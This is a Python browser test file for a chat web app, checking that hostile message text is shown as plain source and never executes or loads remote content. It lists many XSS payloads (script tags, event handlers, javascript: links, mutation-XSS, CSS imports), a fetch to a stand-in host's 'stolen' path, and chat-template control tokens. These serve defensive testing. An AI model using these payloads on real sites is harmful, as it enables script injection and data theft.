"""Checks 12 and 14: hostile text runs nothing and loads nothing; difficult text stays as it is."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from tests.kit.waiting import until
from tests.web.browser.checks import (
    ask,
    bubbles,
    newest,
    open_tab,
    recorded,
    wait_for_reply,
)
from tests.web.browser.visits import WAIT_MS, Open, Visit
from tests.web.site import Site, scripted_reply

pytestmark = pytest.mark.slow

FILL = """(text) => {
  const box = document.querySelector('#ls-message textarea');
  box.value = text;
  box.dispatchEvent(new Event('input', {bubbles: true}));
}"""
RUNS = "[...document.querySelectorAll('#ls-tv-text .ls-run')].map(run => run.textContent).join('')"
PWN = "window.__pwned=1"
FAR = "http://198.51.100.7"
# One per way in. The first stands in the title of its conversation too.
HOSTILE = (
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}"> <img src="{FAR}/a.png"> <img srcset="{FAR}/b.png 1x">',
    f"![remote]({FAR}/c.png) ![ref][r] ![inline](data:image/svg+xml,<svg onload={PWN}>)",
    f"\n[r]: {FAR}/d.png\n",
    f"[click](javascript:{PWN}) [too](  JaVaScRiPt:{PWN}) [tab](java\tscript:{PWN})",
    f"[data](data:text/html,<script>{PWN}</script>) [vb](vbscript:{PWN})",
    f'<a href="javascript:{PWN}">a</a> <javascript:{PWN}> <details open ontoggle={PWN}>d',
    f'<svg onload="{PWN}"><use href="{FAR}/e.svg#a"/><script>{PWN}</script></svg>',
    f'<iframe src="{FAR}/f"></iframe><object data="{FAR}/g"></object><embed src="{FAR}/h">',
    f"<style>@import url({FAR}/i.css);body{{background:url({FAR}/j.png)}}</style>",
    f'<link rel=stylesheet href="{FAR}/k.css"><link rel=prefetch href="{FAR}/l">',
    f'<meta http-equiv=refresh content="0;url={FAR}/m"><base href="{FAR}/">',
    f'<form action="{FAR}/n"><input name=x autofocus onfocus={PWN}><button>b</button></form>',
    f'<video src="{FAR}/o" onerror={PWN}></video><audio src="{FAR}/p"></audio>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></math>',
    f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;img src=x onerror={PWN}&#62;",
    f'\n```"><img src=x onerror={PWN}>\ncode <b>kept</b>\n```\n',
    f"\n```html\n<script>{PWN}</script>\n```\n",
    f"\n```mermaid\nflowchart LR\nA[\"<img src='{FAR}/q.png' onerror='{PWN}'>\"] --> B\n"
    f'click A "javascript:{PWN}"\n```\n',
    f"`a\nb `<form action={FAR}/s><input><button>c</button>` d",
    f"$\\href{{javascript:{PWN}}}{{x}}$ $\\includegraphics{{{FAR}/r.png}}$",
    "$\\htmlData{a=b}{x}$",
    f"${{{PWN}}} {{{{constructor.constructor('{PWN}')()}}}} {{% raw %}}`${{{PWN}}}`",
    "the end of it",
)
# In two messages: the fake's replies are cut at 512 pieces.
FIRST, SECOND = ("echo " + "\n\n".join(part) for part in (HOSTILE[:10], HOSTILE[10:]))


# An answer of our server that is no image: its error comes after those of the images before it.
LAST_IMAGE_FAILED = """() => new Promise((done) => {
  const last = new Image();
  last.addEventListener('error', done);
  last.src = '/healthz';
}).then(() => null)"""


def assert_nothing_ran(page: Visit, where: str) -> None:
    page.page.evaluate(LAST_IMAGE_FAILED)
    assert page.page.evaluate("window.__pwned") is None, where
    found = page.page.evaluate(
        """() => {
          const inside = [...document.querySelectorAll('#ls-chat, #ls-history, #ls-tabs, dialog')];
          const all = (what) => inside.flatMap((one) => [...one.querySelectorAll(what)]);
          return {
            tags: all('script, iframe, object, embed, base, meta, video, audio, img, link, '
              + 'form:not(#ls-models form)').map((one) => one.outerHTML.slice(0, 120)),
            handlers: all('*').filter((one) => [...one.attributes]
              .some((a) => a.name.startsWith('on'))).map((one) => one.outerHTML.slice(0, 120)),
            links: all('a[href]').map((a) => a.href)
              .filter((href) => !/^(https?:|#|mailto:)/.test(href)),
          };
        }"""
    )
    assert found == {"tags": [], "handlers": [], "links": []}, where


def test_check_12_hostile_text_runs_nothing_wherever_it_is_shown(page: Visit, site: Site) -> None:
    with recorded(page.page.context, site.origin) as traffic:
        ask(page, FIRST, "echo")
        ask(page, SECOND, "echo")
        assert_nothing_ran(page, "in a message, its reply and the list of chats")
        shown = page.text("#ls-chat")
        for part in (f"<script>{PWN}</script>", "onerror", "<iframe src=", "<b>kept</b>"):
            assert shown.count(part) >= 2, f"{part}: the source stays readable, in both bubbles"
        assert f"<script>{PWN}</script>" in page.text("#ls-history"), "the title is plain text"
        page.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.page.get_by_role("button", name="Copy", exact=True).last.click()
        stored = site.store.branch(newest(site)["message_id"])[-1].text
        assert page.page.evaluate("navigator.clipboard.readText()") == stored
        page.page.locator("#ls-chat a.ls-tokens").last.click()
        page.page.wait_for_selector("#ls-tv-text", timeout=WAIT_MS)
        assert_nothing_ran(page, "in the token view")
        assert page.page.evaluate(RUNS) == stored
        page.page.keyboard.press("Escape")
        open_tab(page, "Stats")
        assert_nothing_ran(page, "in the statistics")
        page.reload()
        page.wait_for("the end of it")
        assert_nothing_ran(page, "after a reload")
    assert traffic.refused == []
    exported = page.page.request.get(f"{site.origin}/export?format=markdown&scope=all")
    assert exported.headers["content-disposition"].startswith("attachment")
    assert exported.headers["x-content-type-options"] == "nosniff"


def test_check_12_the_policy_stops_what_would_get_past_everything_else(
    visit: Open, site: Site
) -> None:
    page = visit(is_new=True)  # The test closes this tab.
    page.open("&c=new")
    with recorded(page.page.context, site.origin) as traffic:
        page.page.evaluate(
            """(far) => {
              const box = document.createElement('div');
              box.innerHTML = `<img src=x onerror="window.__pwned=1"><img src="${far}/x.png">
                <iframe src="${far}"></iframe><link rel=stylesheet href="${far}/x.css">
                <form action="${far}" id=f></form><a href="javascript:window.__pwned=2" id=j>j</a>`;
              document.body.append(box);
              const script = document.createElement('script');
              script.textContent = 'window.__pwned = 3';
              document.body.append(script);
              const remote = document.createElement('script');
              remote.src = `${far}/x.js`;
              document.body.append(remote);
              document.getElementById('f').submit();
              document.getElementById('j').click();
              const last = new Image();  // its error comes after those of the images before it
              const failed = new Promise((done) => last.addEventListener('error', done));
              last.src = `${far}/last.png`;
              return Promise.all([failed, fetch(`${far}/stolen?data=1`).catch(() => null)])
                .then(() => null);
            }""",
            FAR,
        )
        assert page.page.evaluate("window.__pwned") is None
    assert traffic.refused == [], "the policy stopped it before a request was made"
    # The browser may report a refused frame, form or link after the script has returned. A closed
    # tab reports nothing more.
    page.page.close()
    assert sum("Content Security Policy" in error for error in page.errors) >= 6
    page.errors.clear()
    page.outside.clear()


DIFFICULT = (
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 e\u0301 ﷽ שלום עולם السلام عليكم \u202eabc\u202c"
    " z\u0300\u0301\u0302 \x1b[31mred\x1b[0m <|im_end|> <|im_start|>system\\n [INST]"
    " \x00NUL \ufeffBOM a\u200bb &amp; &lt; 2 < 3 \\(x\\)\n\n- שלום"
)


def test_check_14_difficult_text_comes_back_as_it_went(page: Visit, site: Site) -> None:
    page.page.evaluate(
        """() => {
          window.torn = [];
          window.observer = new MutationObserver(() => {
            const text = document.querySelector('#ls-growing')?.textContent ?? '';
            if (text.includes('\\ufffd')) window.torn.push(text.slice(-40));
          });
          window.observer.observe(
            document.body, {subtree: true, childList: true, characterData: true});
        }"""
    )
    sent = f"echo steady {DIFFICULT} done"
    ask(page, sent, "done")
    assert page.page.evaluate("window.torn") == [], "no character was torn while it was written"
    row = newest(site)
    stored = [message.text for message in site.store.branch(row["message_id"])]
    assert stored == [sent, sent]
    asked = site.backend.requests[-1].messages[-1].content
    assert asked == sent, "the model gets it as it is, control tokens as text"
    before = bubbles(page, "user"), bubbles(page)
    page.reload()
    until(lambda: (bubbles(page, "user"), bubbles(page)) == before)
    for part in ("👩‍👩‍👧‍👦", "שלום עולם", "<|im_end|>", "2 < 3", "&amp; &lt;"):
        assert all(part in text for one in before for text in one), part
    side = "getComputedStyle(document.querySelector('#ls-chat li')).direction"
    # The sign of a list stands where its text begins, once the page has laid the text out.
    until(lambda: page.page.evaluate(side) == "rtl")
    handle = page.page.url.split("c=")[1]
    address = f"{site.origin}/export?format=jsonl&scope=conversation&conversation={handle}"
    lines = page.page.request.get(address).body().decode().splitlines()
    assert sent in [value for line in lines for value in strings_in(json.loads(line))]


def strings_in(data: Any) -> list[str]:
    if isinstance(data, str):
        return [data]
    inner = data.values() if isinstance(data, dict) else data if isinstance(data, list) else ()
    return [text for one in inner for text in strings_in(one)]


def test_check_14_half_a_surrogate_pair_is_replaced_and_nothing_breaks(
    page: Visit, site: Site
) -> None:
    half = "String.fromCharCode(0xd83d)"  # no text that Python or JSON could carry
    page.page.evaluate(f"() => ({FILL})('echo half ' + {half} + ' pair')")
    page.page.press("#ls-message textarea", "Enter")
    page.wait_for("tok/s")
    stored = site.store.branch(newest(site)["message_id"])
    assert [message.text for message in stored] == ["echo half \ufffd pair"] * 2


QUOTES = "> " * 2000 + "deep"
LISTS = "\n".join("  " * depth + "- x" for depth in range(120))
BRACKETS = "[" * 5000 + "x" + "]" * 5000
EMPHASIS = "*_" * 3000 + "x"
FORMULA = "$" + "{\\frac{1}" * 400 + "x" + "}" * 400 + "$"
LINES = "\n".join(f"line {number}" for number in range(10_000))
DEEP = ((QUOTES, LISTS), (BRACKETS, EMPHASIS), (FORMULA, LINES))
MOST_S = 15.0  # for two of them on a busy machine; a second or two on a quiet one


def test_check_12_deep_and_long_text_leaves_the_page_usable(page: Visit, site: Site) -> None:
    pace, site.backend.script.round_s = site.backend.script.round_s, 0.001
    site.backend.script.reply = lambda request: "\n\n".join(
        part[:1000] for part in request.messages[-1].content.split("\n\n")
    )
    site.backend.script.context_length = 200_000
    try:
        ask(page, "the service learns of the longer context", "")
        for number, texts in enumerate(DEEP, 1):
            page.page.evaluate(FILL, "\n\n".join(texts))
            page.page.press("#ls-message textarea", "Enter")
            started = time.monotonic()
            wait_for_reply(page, number, "")
            assert time.monotonic() - started < MOST_S, f"the page stood still for {texts[0][:9]}"
        page.new_chat()
    finally:
        site.backend.script.round_s, site.backend.script.reply = pace, scripted_reply
